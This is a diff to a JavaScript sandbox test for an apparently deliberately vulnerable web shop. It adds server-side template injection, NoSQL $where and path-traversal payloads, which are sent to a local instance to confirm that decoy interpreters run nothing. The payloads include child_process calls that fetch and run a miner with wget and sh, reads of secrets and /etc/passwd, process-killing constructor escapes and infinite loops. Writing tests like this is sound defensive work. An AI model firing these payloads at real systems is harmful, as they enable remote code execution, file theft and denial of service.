@@ -39,7 +39,7 @@ const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000
 const PDF = Buffer.from('%PDF-1.4\n% sandbox\n');
 
 /** Every payload: [name, request options]. `canary` is the outside folder, `secret` its file. */
-function payloads({ canary, secret, dataDir }) {
+function payloads({ canary, secret, dataDir, email }) {
   const up = (levels) => '../'.repeat(levels);
   const relativeSecret = path.relative(dataDir, secret);
   const xml = (system) => `<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "${system}">]>\n<order><note>&xxe;</note></order>`;
@@ -182,6 +182,33 @@ function payloads({ canary, secret, dataDir }) {
   for (const text of ['{{7*7}}', '#{7*7}', '${7*7}', '<%= 7*7 %>', "#{global.process.mainModule.require('child_process').execSync('id')}"]) {
     list.push([`template in feedback ${text}`, { method: 'POST', path: '/api/Feedbacks', body: { comment: text, rating: 3, captchaId: 1, captcha: '0' } }]);
   }
+  // Template payloads in the legacy profile page's username (SSTi; intended: a non-executing
+  // interpreter whose process and child_process are decoys that only write the command down).
+  for (const username of [
+    `#{global.process.mainModule.require('child_process').exec('touch ${canary}/ssti.txt')}`,
+    "#{global.process.mainModule.require('child_process').execSync('wget -O /tmp/pwned http://localhost/quarantine/pulp-miner-linux-x64 && sh /tmp/pwned')}",
+    `#{require('fs').readFileSync('${secret}')}`,
+    "#{this.constructor.constructor('return process')().exit()}",
+    "#{''.constructor.constructor('return process')().mainModule.require('net').connect(80, 'example.com')}",
+    `#{process.mainModule.require('fs').writeFileSync('${canary}/evaluated.txt', 'x')}`,
+  ]) {
+    const form = { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ username }).toString() };
+    list.push([`template in the profile's username ${username.slice(0, 40)}`, { method: 'POST', path: '/profile', ...form }]);
+    list.push([`profile page with ${username.slice(0, 40)}`, { method: 'GET', path: '/profile' }]);
+  }
+  // The reviews' $where condition (NoSQL DoS; intended: an interpreter that knows this.<field>,
+  // operators and a capped, asynchronous sleep(), and runs nothing else).
+  for (const condition of [
+    '1 || sleep(2000)', "1 || require('fs').readFileSync('/etc/passwd')", "1 || this.constructor.constructor('return process')().exit()",
+    `1 || process.mainModule.require('fs').writeFileSync('${canary}/evaluated.txt', 'x')`, '1 || (function () { while (true); })()', "1 || import('node:net')",
+  ]) {
+    list.push([`reviews $where ${condition.slice(0, 40)}`, { method: 'GET', path: `/rest/products/${encodeURIComponent(condition)}/reviews` }]);
+  }
+  // The erasure mail's layout (Local File Read; intended: read only from the decoy host tree in
+  // the data directory). A layout that is not found stops the request before anything is erased.
+  for (const layout of [`../../../../../../../..${secret}`, `..\\..\\..\\..\\..\\..\\..${secret.replace(/\//g, '\\')}`, `file://${secret}`, `../../../../../../${canary}/x`, `%2e%2e/%2e%2e/%2e%2e/%2e%2e${secret}`, 'mail\u0000.txt']) {
+    list.push([`erasure mail layout ${layout.slice(0, 40)}`, { method: 'POST', path: '/rest/user/erasure-request', body: { email, securityAnswer: 'citrus', layout } }]);
+  }
   // Language files (Extra Language) never leave the translations.
   list.push(['language file traversal', { method: 'GET', path: '/assets/i18n/..%2F..%2F..%2Fpackage.json', headers: { cookie: `language=${encodeURIComponent('../../etc/passwd')}` } }]);
   return list;
@@ -229,7 +256,7 @@ export async function sandbox({ dataDir }) {
   try {
     const agent = keepAliveAgent(2);
     const customer = await registerCustomer(shop.url, 'sandbox', agent);
-    for (const [name, options] of payloads({ canary, secret, dataDir })) {
+    for (const [name, options] of payloads({ canary, secret, dataDir, email: customer.email })) {
       const answer = await request(shop.url, { ...options, token: customer.token, agent: false, timeoutMs: 20_000 });
       result.payloads += 1;
       if (answer.status > 0) result.answered += 1;
